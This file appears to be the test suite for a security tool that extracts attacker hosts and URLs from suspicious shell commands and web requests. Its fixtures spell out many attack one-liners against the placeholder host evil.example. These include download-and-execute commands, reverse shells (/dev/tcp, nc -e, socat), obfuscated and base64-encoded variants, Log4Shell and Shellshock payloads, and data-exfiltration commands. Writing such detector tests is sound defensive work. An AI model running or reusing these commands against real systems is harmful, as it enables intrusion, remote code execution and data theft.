import { assert, assertEquals } from "@std/assert";
import {
  findInCommand,
  findInRequest,
} from "../../../lib/alert/sources/commands.ts";

function values(
  text: string,
  find: typeof findInCommand = findInCommand,
): readonly string[] {
  return [...new Set([...find(text, "f")].map(({ text }) => text))];
}

function utf16(text: string): string {
  const bytes = [...text].flatMap((letter) => [letter.charCodeAt(0), 0]);
  return new Uint8Array(bytes).toBase64();
}

const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  "curl evil.example/x | sh": ["evil.example", "http://evil.example/x"],
  "curl -s -O evil.example/x.sh": [
    "evil.example",
    "http://evil.example/x.sh",
  ],
  'wget -q -O - "http://evil.example/it\'s"': [
    "http://evil.example/it's",
    "evil.example",
    "http://evil.example/it",
  ],
  "certutil -urlcache -split -f evil.example/x.txt x.exe": [
    "evil.example",
    "http://evil.example/x.txt",
  ],
  "certutil -ping evil.example": ["evil.example"],
  "certutil -decode in.data out.data": [],
  "bitsadmin /transfer j evil.example/a.exe C:\\a.exe": [
    "evil.example",
    "http://evil.example/a.exe",
  ],
  'curl -H "Host: evil.example" a.example': ["evil.example", "a.example"],
  'wget --header="Host: evil.example" a.example': ["evil.example", "a.example"],
  "iwr a.example -Headers @{Host='evil.example'}": [
    "evil.example",
    "a.example",
  ],
  'curl -H "Referer: evil.example" a.example': ["a.example"],
  "curl -x evil.example:8080 a.example": ["evil.example", "a.example"],
  "curl --proxy evil.example:8080 a.example": ["evil.example", "a.example"],
  "curl --connect-to ::evil.example:443 a.example": [
    "evil.example",
    "a.example",
  ],
  "wget -x evil.example/a": ["evil.example", "http://evil.example/a"],
  "ping 0xb9f41f9e": ["185.244.31.158"],
  "ping -n 1 3119783838": ["185.244.31.158"],
  "curl 0xb9.0xf4.0x1f.0x9e": ["185.244.31.158"],
  "echo 3119783838": [],
  "net.connect(4444,'evil.example')": ["evil.example"],
  "net.createConnection({port:4444,host:'evil.example'})": ["evil.example"],
  "search-ms:query=a&crumb=location:\\\\evil.example@80\\DavWWWRoot": [
    "evil.example",
  ],
  "curl -H a.example -A b.example evil.example": ["evil.example"],
  "ping -c 1 evil.example; ls a.b.conf": ["evil.example"],
  "ping -n 1 9.8.7.6": ["9.8.7.6"],
  "/usr/bin/ssh -i key.pem -p 22 root@evil.example": ["evil.example"],
  "scp a.txt bob@evil.example:/tmp/a.txt": ["evil.example"],
  "nc -u evil.example 53 -e /bin/sh": ["evil.example"],
  "nc 9.8.7.6:4444": ["9.8.7.6"],
  "dig +short TXT evil.example @8.8.8.8": ["8.8.8.8", "evil.example"],
  "nslookup evil.example": ["evil.example"],
  "telnet evil.example 23": ["evil.example"],
  "C:\\Windows\\System32\\certutil.exe -urlcache -f http://evil.example/a.exe a":
    ["http://evil.example/a.exe", "evil.example"],
  "bitsadmin /transfer n https://evil.example/a.exe C:\\a.exe": [
    "https://evil.example/a.exe",
    "evil.example",
  ],
  "powershell iwr -Uri evil.example/a.ps1 -OutFile a.ps1": [
    "evil.example",
    "http://evil.example/a.ps1",
  ],
  "mstsc /v:evil.example": ["evil.example"],
  "socat TCP:evil.example:4444 EXEC:sh": ["evil.example"],
  "openssl s_client -connect evil.example:443": ["evil.example"],
  "bash -i >& /dev/tcp/evil.example/4444 0>&1": ["evil.example"],
  "net use \\\\evil.example\\c$": ["evil.example"],
  "New-Object Net.Sockets.TCPClient('evil.example',4444)": ["evil.example"],
  "python -c 's.connect((\"evil.example\",4242))'": ["evil.example"],
  "wget${IFS}http://evil.example/x${IFS}-O${IFS}t": [
    "http://evil.example/x",
    "evil.example",
  ],
  "{curl,evil.example/x}": ["evil.example", "http://evil.example/x"],
  "c^u^rl evil.example": ["evil.example"],
  "('http'+'://evil.example/x')": ["http://evil.example/x", "evil.example"],
  [`powershell -nop -enc ${utf16("iwr http://evil.example/a")}`]: [
    "http://evil.example/a",
    "evil.example",
  ],
  [`[Convert]::FromBase64String('${btoa("curl evil.example/x")}')`]: [
    "evil.example",
    "http://evil.example/x",
  ],
  [
    `echo ${
      btoa(`echo ${btoa("curl evil.example/x")} | base64 -d`)
    } | base64 -d`
  ]: ["evil.example", "http://evil.example/x"],
  [
    `echo ${
      new TextEncoder().encode("curl evil.example/x").toHex()
    } | xxd -r -p`
  ]: ["evil.example", "http://evil.example/x"],
  "printf '\\x63\\x75\\x72\\x6c evil.example'": ["evil.example"],
  'cu""rl evil.example': ["evil.example"],
  [`c'u'r"l" ht"tp"://e'v'il.example/x`]: [
    "http://evil.example/x",
    "evil.example",
  ],
  "w\\get h\\t\\tp\\:\\/\\/evil.example/x": [
    "http://evil.example/x",
    "evil.example",
  ],
  'echo -e "\\0150\\0164\\0164\\0160\\072\\057\\057evil.example/x"': [
    "http://evil.example/x",
    "evil.example",
  ],
  [`"ht"+'tp://evil'+".example/x"`]: ["http://evil.example/x", "evil.example"],
  "('ht','tp://evil.','example/x') -join ''": [
    "http://evil.example/x",
    "evil.example",
  ],
  [
    `[char[]](${
      [..."http://evil.example/x"].map((letter) => letter.charCodeAt(0)).join()
    })`
  ]: ["http://evil.example/x", "evil.example"],
  "echo 'x/elpmaxe.live//:ptth lruc' | rev | sh": [
    "http://evil.example/x",
    "evil.example",
  ],
  [
    `$b="${btoa("curl evil.example/x")}";iex([Convert]::FromBase64String($b))`
  ]: ["evil.example", "http://evil.example/x"],
  [`eval(Buffer.from('${btoa("curl evil.example/x")}','base64'))`]: [
    "evil.example",
    "http://evil.example/x",
  ],
  '("{1}{0}" -f "evil.example/x","http://")': [
    "http://evil.example/x",
    "evil.example",
  ],
  "'hxxp://evil.example/x'.Replace('xx','tt')": [
    "http://evil.example/x",
    "evil.example",
  ],
  "([char]0x68+[char]116+'tp://evil.example/x')": [
    "http://evil.example/x",
    "evil.example",
  ],
  "copy \\\\9.8.7.6\\c$\\100\\120\\130.txt": ["9.8.7.6"],
  "C:\\\\nssm-2.24-101-g897c7ad\\\\win64\\\\nssm.exe": [],
  "curl -s a.b.ru; java.lang.ProcessBuilder": ["a.b.ru"],
  "curl x java.lang.ProcessBuilder": [],
  "docker run --rm -it evil.example/x": ["evil.example"],
  "docker run -d -p 80:80 a.evil.example:5000/x/y:6.21.0 --z 1": [
    "a.evil.example",
  ],
  "docker pull 9.8.7.6:5000/img": ["9.8.7.6"],
  "docker login evil.example -u x": ["evil.example"],
  "docker logs own.ru; podman exec -it web.ru sh": [],
  "kubectl restart deployment.apps/web; docker exec web cat conf.d/x": [],
  "git log --author=bob@own.ru; openssl req -out own.csr": [],
  "msfvenom LHOST=evil.example LPORT=1": ["evil.example"],
  "Send-MailMessage -SmtpServer evil.example -To a@b.ru": ["evil.example"],
  "curl -H 'X: a.ru' -A 'Mozilla/5.0 b.ru' --data-raw 'h=c.ru' evil.example": [
    "evil.example",
  ],
  "wget --user-agent=a.ru --header='Via: b.ru' evil.example": ["evil.example"],
  'iwr ht""""tp://evil.example/x': ["http://evil.example/x", "evil.example"],
  "kubectl set image deployment/web web=evil.example/web:2": ["evil.example"],
  [
    `-join ('${
      new TextEncoder().encode("http://evil.example/x").toHex()
    }' -split '(..)' | % {[char][convert]::ToInt32($_,16)})`
  ]: ["http://evil.example/x", "evil.example"],
  "docker -H tcp://9.8.7.6:2375 ps": ["9.8.7.6"],
  "docker run -v a.conf/x:/b -e A=b.conf/c nginx:1.25 bitnami/redis:7.2": [],
  "podman pull a.ru/x/y; crictl pull b.ru/z:1; nerdctl run c.ru/w": [
    "a.ru",
    "b.ru",
    "c.ru",
  ],
  "docker pull evil.example/tools/git": ["evil.example"],
  "kubectl run x --image=evil.example/miner:1 -n kube-system": ["evil.example"],
  "kubectl get pods.metrics.k8s.io deployments.apps -f app.yaml": [],
  "helm install x oci://evil.example/charts/x": ["evil.example"],
  "skopeo copy docker://evil.example/a:1 dir:/tmp/x": ["evil.example"],
  "git clone git://a.ru/x.git; git clone user@b.ru:x; git remote add o c.ru:x/y":
    ["a.ru", "b.ru", "c.ru"],
  "git clone ssh://git@evil.example:2222/x.git": ["evil.example"],
  "git commit -m fix.this; git config user.email a.br; git add main.go": [],
  "go get evil.example/x/y@v1.2.3; go test ./a.ru/b": ["evil.example"],
  "pip install --trusted-host evil.example x": ["evil.example"],
  "./xmrig -o evil.example:3333 -u w -p x": ["evil.example"],
  "./x -o stratum+tcp://evil.example:3333": ["evil.example"],
  "at java.lang.Thread:12 main.go:12 app.py:80 x.y:80": [],
  "swaks --to a@own.example --server evil.example": ["evil.example"],
  "apt-key adv --keyserver evil.example --recv 1234": ["evil.example"],
  "rclone copy D: :sftp,host=evil.example,user=x:/loot": ["evil.example"],
  "java -Djava.rmi.server.hostname=own.ru --hostname own.ru --host": [],
  "wmic /node:evil.example process call create x": ["evil.example"],
  "PsExec64.exe -accepteula \\\\evil.example -s cmd": ["evil.example"],
  "plink.exe -N -R 3389:localhost:3389 user@evil.example": ["evil.example"],
  "ssh -fNL 8080:a.evil.example:80 b.evil.example": [
    "a.evil.example",
    "b.evil.example",
  ],
  "psexec.py corp/admin:Pw@evil.example": ["evil.example"],
  "winscp /command 'open sftp://u:p@evil.example/'": ["evil.example"],
  "rsync -av /home/ rsync://evil.example/mod/": ["evil.example"],
  "mount -t cifs //evil.example/share /mnt": ["evil.example"],
  "sshpass -p 'p.w' ssh root@evil.example": ["evil.example"],
  "tftp -l x -r mirai.arm7 -g evil.example": ["evil.example"],
  'IO::Socket::INET->new(PeerAddr=>"evil.example:4444")': ["evil.example"],
  'sockaddr_in(443,inet_aton("evil.example"))': ["evil.example"],
  "awk 'BEGIN{s=\"/inet/tcp/0/evil.example/4444\"}'": ["evil.example"],
  "ls -l /etc/nginx.conf.d x.service": [],
  "apt install curl libssl.so": [],
  "java -jar app.jar org.apache.Main 1.2": [],
};

Deno.test("findInCommand() finds what a command names", async (t) => {
  for (const [command, expected] of Object.entries(COMMANDS)) {
    await t.step(command, () => assertEquals(values(command), expected));
  }
});

Deno.test("a command's namespaces and vendors' links are skipped, and said to be", () => {
  const script = `<a xmlns="http://ns.example/a">; # https://aka.ms/a
    $xmlns="http://evil.example/a"; iwr http://ns.example/a`;
  assertEquals(
    [...findInCommand(script, "f")].map((one) => [
      one.text,
      "reason" in one ? one.reason : one.kind,
    ]),
    [
      ["http://ns.example/a", "the name of an XML namespace"],
      ["https://aka.ms/a", "a vendor's page"],
      ["http://evil.example/a", "url"],
      ["evil.example", "host"],
      ["http://ns.example/a", "url"],
      ["ns.example", "host"],
    ],
  );
});

const REQUESTS: Readonly<Record<string, readonly string[]>> = {
  "/i.php?c=wget%20http://evil.example/x%20-O%20t": [
    "http://evil.example/x",
    "evil.example",
  ],
  "/i.php?c=curl+evil.example/x+-O+t": [
    "evil.example",
    "http://evil.example/x",
  ],
  "/i.php?c=%2563%2575rl%2520evil.example": ["evil.example"],
  "/;nslookup$IFS'evil.example'": ["evil.example"],
  [`/x.php?c=eval(base64_decode('${btoa("curl evil.example")}'))`]: [
    "evil.example",
  ],
  "/${(#a=@T@x(#b.exec(%22curl%20evil.example/a%22)))}/": [
    "evil.example",
    "http://evil.example/a",
  ],
  "() { :;}; /bin/bash -c 'ping evil.example'": ["evil.example"],
  "${jndi:ldap://evil.example:1389/a}": [
    "ldap://evil.example:1389/a",
    "evil.example",
  ],
  "${jndi:dns://${env:USER}.evil.example}": [
    "dns://evil.example",
    "evil.example",
  ],
  "${${lower:j}${::-n}di:${upper:l}dap://evil.example/a}": [
    "ldap://evil.example/a",
    "evil.example",
  ],
  "${jndi:ldap://127.0.0.1#evil.example:1389/a}": [
    "ldap://evil.example:1389/a",
    "evil.example",
  ],
  "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D": [
    "ldap://evil.example/a",
    "evil.example",
  ],
  "\\x24\\x7bjndi:rmi://evil.example/a\\x7d": [
    "rmi://evil.example/a",
    "evil.example",
  ],
  "Mozilla/5.0 (compatible; Bot/2.1; +http://bot.example/bot.html)": [],
  "curl/8.5.0": [],
  "/a?b=c%20d&e=http://a.example/": [],
};

Deno.test("findInRequest() finds what a command in a request names", async (t) => {
  for (const [request, expected] of Object.entries(REQUESTS)) {
    await t.step(request, () =>
      assertEquals(
        values(request, findInRequest).map((one) =>
          one.replace("LDAP", "ldap")
        ),
        expected,
      ));
  }
});

/** What an attacker may write, so often as there is room. */
const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
  "lookups in lookups": (n) => "${lower:".repeat(n / 8) + "}".repeat(n / 8),
  "open lookups": (n) => "${jndi:".repeat(n / 7),
  "programs": (n) => "curl a.io/x ".repeat(n / 12),
  "base64": (n) => `x -enc ${"QUFB".repeat(n / 4)}`,
  "base64 over and over": (n) =>
    `base64 -d ${
      `${btoa("curl a.io/x; base64 -d QUFBQUFBQUFBQUFBQUFBQQ==")} `.repeat(
        n / 76,
      )
    }`,
  "percent signs": (n) => `c=ping ${"%25".repeat(n / 3)}`,
  "quotes joined": (n) => "'+'".repeat(n / 3),
  "backslashes": (n) => "\\".repeat(n),
  "braces": (n) => "{a,".repeat(n / 3),
  "brackets": (n) => "connect(((".repeat(n / 10),
  "dots": (n) => `ping ${"a.".repeat(n / 2)}`,
  "formats": (n) =>
    `'${"{0}".repeat(160)}' -f '${"a".repeat(499)}' `.repeat(n / 990),
  "replaced": (n) => "'aaaa'.Replace('a','bbbbbbbbbb') ".repeat(n / 32),
  "quotes": (n) => "'".repeat(n),
  "numbers of letters": (n) => "\\x41".repeat(n / 4),
  "hex": (n) => `xxd -r ${"41".repeat(n / 2)}`,
  "blanks": (n) => `base64 ${" ".repeat(n)}`,
  "quotes in words": (n) => "a'b'".repeat(n / 4),
  "letters' numbers": (n) => `char ${"97,".repeat(n / 3)}x`,
  "lists joined": (n) => `${"'a','b',".repeat(n / 8)} -join ''`,
  "schemes": (n) => "a://b@".repeat(n / 6),
  "escaped schemes": (n) => "\\h\\t\\t".repeat(n / 6),
  "images": (n) => "docker pull a.io/x:".repeat(n / 19),
  "ports": (n) => "1:".repeat(n / 2),
  "options": (n) => "--server ".repeat(n / 9),
  "namespaces": (n) => `<a ${" xmlns=".repeat(n / 7)}`,
  "sockets": (n) => "connect({".repeat(n / 9),
  "headers": (n) => "-H Host: a.io ".repeat(n / 14),
  "reversed": (n) => `| rev ${"| ver ".repeat(n / 6)}`,
};

Deno.test("commands take time in proportion, and not for long", async (t) => {
  for (const [name, make] of Object.entries(HOSTILE)) {
    await t.step(name, () => {
      const ms = [30_000, 60_000].map((n) => {
        const text = make(n);
        const times = [1, 2, 3].map(() => {
          const start = performance.now();
          values(text);
          values(text, findInRequest);
          return performance.now() - start;
        });
        return Math.min(...times);
      });
      const [once = 0, twice = 0] = ms;
      assert(twice < 3 * once + 50 && twice < 500, `${once} ms, ${twice} ms`);
    });
  }
});
